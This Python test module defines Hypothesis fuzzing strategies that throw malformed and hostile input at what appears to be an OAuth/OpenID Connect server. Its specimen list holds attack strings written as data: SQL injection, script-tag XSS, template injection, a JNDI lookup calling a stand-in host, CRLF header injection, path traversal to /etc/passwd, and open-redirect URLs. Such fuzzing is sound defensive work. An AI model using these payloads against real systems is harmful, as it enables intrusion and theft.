"""Input that nobody means well with, and how much of it each test tries.

By default the same examples are tried each time, within a bounded time. ``FUZZ=10`` tries ten times as many, others each
time: for a night, or after a change of the edge.
"""

from __future__ import annotations

import base64
import json
import os
from urllib.parse import quote_plus

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

FACTOR = int(os.environ.get("FUZZ", "1"))

PARAMETERS = (
    *(
        "response_type",
        "client_id",
        "redirect_uri",
        "scope",
        "state",
        "nonce",
        "code_challenge",
        "code_challenge_method",
    ),
    *("prompt", "max_age", "login_hint", "ui_locales", "id_token_hint", "resource", "request", "request_uri", "claims"),
    *("response_mode", "grant_type", "code", "code_verifier", "refresh_token", "client_secret", "client_assertion"),
    *("client_assertion_type", "token", "token_type_hint", "access_token", "post_logout_redirect_uri", "acr_values"),
    *("csrf_token", "username", "password", "email", "action", "decision", "back", "language", "to", "with", "notice"),
    *("switch", "days", "name", "session", "consent", "display", "authorization_details", "v"),
)
SPECIMENS = (
    *("", " ", "\t", "0", "-1", "1e309", "999999999999999999999", "٣", "null", "true", "[]", "{}", "%", "%zz", "%00"),
    *(
        "\x00",
        "\r\nX-Evil: 1",
        "a\nb",
        "\x1b[31m",
        "\x7f",
        "\u202e",
        "\ufeff",
        "\ufffd",
        "é",
        "e\u0301",
        "가나다",
        "😀" * 40,
    ),
    *("ﷺ" * 30, "İ", "ß" * 40, "' OR 1=1 --", '"><script>alert(1)</script>', "{{7*7}}", "${jndi:ldap://evil.example}"),
    *(
        "javascript:alert(1)",
        "//evil.example",
        "/\\evil.example",
        "https://evil.example/",
        "http://[",
        "https://[::::]/",
    ),
    *(
        "https://app.example/callback",
        "https://app.example/callback?kept=1#",
        "https://app.example/callback?kept=1&x=1",
    ),
    *("https://app.example@evil.example/callback?kept=1", "http://127.0.0.1:99999/callback", "urn:x", "openid", "none"),
    *("none login", "login", "S256", "plain", "code", "code id_token", "query", "fragment", "authorization_code"),
    *(
        "refresh_token",
        "client_credentials",
        "password",
        "allow",
        "begin",
        "confirm",
        "turn-off",
        "never",
        "ko",
        "en ko",
    ),
    *("a.b.c", "e30.e30.", "..", "mcp_rt_" + "0" * 49, "mcp_request_" + "A" * 49, "../../etc/passwd", "A" * 5000),
)
_HEADER_CHARACTERS = st.characters(
    min_codepoint=0x20, max_codepoint=0xFF, exclude_characters="".join(map(chr, range(0x7F, 0xA0)))
)


def bounded(examples: int) -> settings:
    """How often a test is run. Nothing depends on chance unless more than the usual is asked for."""
    return settings(
        max_examples=examples * FACTOR,
        derandomize=FACTOR == 1,
        database=None,
        deadline=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.filter_too_much],
    )


words = st.one_of(st.sampled_from(SPECIMENS), st.text(max_size=40))
names = st.one_of(st.sampled_from(PARAMETERS), st.text(max_size=12))
pairs = st.lists(st.tuples(names, words), max_size=8)


@st.composite
def encoded(draw: st.DrawFn) -> str:
    """Form-encoded text: mostly well-formed, sometimes with fields repeated, sometimes nonsense."""
    kind = draw(st.sampled_from(("pairs", "pairs", "pairs", "repeated", "broken", "many", "long")))
    fields = draw(pairs)
    if kind == "repeated" and fields:
        fields.append((fields[0][0], draw(words)))
    text = "&".join(f"{quote_plus(name)}={quote_plus(value)}" for name, value in fields)
    if kind == "broken":
        junk = st.sampled_from(
            ("%", "%ff", "%c3%28", "%ED%A0%80", "&&=", "=", "a=1;b=2", "+", "%00", "a[]=1", "a[b]=2")
        )
        text += "&" + "&".join(draw(st.lists(junk, min_size=1, max_size=4)))
    elif kind == "many":
        text += "&x=1" * draw(st.sampled_from((98, 101, 2000)))
    elif kind == "long":
        text += "&state=" + "s" * draw(st.sampled_from((4096, 4097, 16_000, 16_400, 65_500, 70_000)))
    return text


header_text = st.one_of(
    st.text(_HEADER_CHARACTERS, max_size=40),
    st.sampled_from([word.encode().decode("latin-1") for word in SPECIMENS if word.isprintable()]),
)


@st.composite
def basic_headers(draw: st.DrawFn) -> str:
    """What may stand after ``Basic``, seldom what should."""
    scheme = draw(
        st.sampled_from(("Basic", "basic", "BASIC", "Basic ", "Basic\t", "Basi", "Bearer", "Digest", "DPoP", ""))
    )
    inner = draw(st.one_of(st.binary(max_size=30), words.map(str.encode), words.map(lambda word: f"{word}:x".encode())))
    value = draw(
        st.sampled_from(
            (
                base64.b64encode(inner).decode(),
                base64.urlsafe_b64encode(inner).decode().rstrip("="),
                inner.decode("latin-1"),
                "=" + base64.b64encode(inner).decode(),
                "",
            )
        )
    )
    return f"{scheme} {value}".replace("\r", "").replace("\n", "").replace("\x00", "")


@st.composite
def tokens(draw: st.DrawFn) -> str:
    """Things in the shape of a JWT."""

    def part(value: bytes) -> str:
        return base64.urlsafe_b64encode(value).rstrip(b"=").decode()

    anything = st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8),
        lambda inner: st.lists(inner, max_size=2) | st.dictionaries(st.text(max_size=4), inner, max_size=2),
        max_leaves=4,
    )
    fields = {
        name: draw(anything) for name in draw(st.lists(st.sampled_from(("alg", "kid", "typ", "b64", "crit", "jwk"))))
    }
    fields |= draw(
        st.sampled_from(({}, {"alg": "none"}, {"alg": "HS256"}, {"typ": "at+jwt"}, {"alg": "RS256", "typ": "JWT"}))
    )
    header = draw(st.sampled_from((json.dumps(fields).encode(), b"[" * 3000, b"\xff\xfe", b"1" * 5000, b"")))
    return f"{part(header)}.{part(draw(st.binary(max_size=20)))}.{part(draw(st.binary(max_size=64)))}"


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | words | st.just("\ud800"),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=4), inner, max_size=3),
    max_leaves=5,
)
claims = st.dictionaries(
    st.one_of(st.sampled_from((*PARAMETERS, "iss", "sub", "aud", "exp", "nbf", "iat", "jti")), names), _JSON, max_size=5
)

headers = st.lists(
    st.one_of(
        st.tuples(st.just("Authorization"), st.one_of(basic_headers(), tokens().map("Bearer {}".format), header_text)),
        st.tuples(
            st.just("Content-Type"),
            st.sampled_from(
                (
                    "application/x-www-form-urlencoded; charset=utf-16",
                    "APPLICATION/X-WWW-FORM-URLENCODED",
                    "application/json",
                    "multipart/form-data; boundary=x",
                    "multipart/form-data",
                    "multipart/form-data; boundary=" + "b" * 300,
                    "text/plain",
                    ";",
                    "",
                )
            ),
        ),
        st.tuples(
            st.just("Cookie"), st.one_of(header_text, header_text.map("mcp_session_8000={}; mcp_browser_8000=x".format))
        ),
        st.tuples(
            st.sampled_from(
                ("Accept-Language", "User-Agent", "X-Forwarded-For", "Origin", "Sec-Fetch-Site", "Referer")
            ),
            header_text,
        ),
        st.tuples(
            st.sampled_from(("If-None-Match", "Range", "Sec-Purpose", "Accept", "X-Forwarded-Host")), header_text
        ),
        st.tuples(
            st.just("Host"), st.one_of(header_text, st.sampled_from(("evil.example", "a" * 300, "[::1", "localhost:x")))
        ),
    ),
    max_size=4,
    unique_by=lambda header: header[0],
)
methods = st.sampled_from(
    ("GET", "POST", "HEAD", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "get", "X" * 40)
)
lengths = st.sampled_from(("", "", "", "", None, "0", "-1", "1", "x", "65537", "9" * 5000, "1_0", " 5", "5, 5", "0x10"))
bodies = st.one_of(
    encoded().map(str.encode),
    encoded().map(str.encode),
    st.binary(max_size=60),
    st.sampled_from(
        (b"{", b'{"grant_type": "client_credentials"}', b"[" * 2000, b"\x00" * 100, b"a" * 66_000, b"--x\r\n\r\n")
    ),
)
